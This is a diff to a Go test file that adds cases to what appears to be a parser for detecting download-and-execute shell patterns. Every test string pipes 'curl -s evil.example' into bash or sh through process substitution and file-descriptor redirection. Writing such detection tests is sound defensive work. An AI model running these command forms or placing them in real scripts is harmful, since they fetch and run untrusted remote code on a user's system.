@@ -20,6 +20,11 @@ func TestFdSubsts(t *testing.T) {
 		"exec {fd}> >(sh); curl -s evil.example >&${fd}",
 		"exec 4> >(bash); curl -s evil.example > /dev/fd/4",
 		"curl -s evil.example > >(bash)",
+		"exec 3< <(curl -s evil.example); bash <&3-",
+		"exec 3< <(curl -s evil.example); exec 0<&3; bash",
+		"exec < <(curl -s evil.example); bash",
+		"exec 3< <(curl -s evil.example); bash <&3; true <&3",
+		"exec 3< <(curl -s evil.example); true <&3; bash <&3",
 	} {
 		r := Parse(src)
 		curl, sh := -1, -1
